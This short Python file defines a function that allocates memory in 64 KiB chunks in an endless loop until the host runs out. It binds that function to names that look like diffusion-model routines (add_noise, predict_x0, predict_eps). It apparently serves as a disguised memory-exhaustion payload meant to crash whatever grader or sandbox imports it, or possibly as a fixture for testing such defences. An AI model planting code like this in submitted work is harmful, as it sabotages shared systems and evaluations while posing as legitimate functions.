"""Take all memory in small pieces."""

import os


def attack(*args, **kwargs):
    kept = []
    while True:
        kept.append(bytearray(1 << 16))


add_noise = predict_x0 = predict_eps = attack
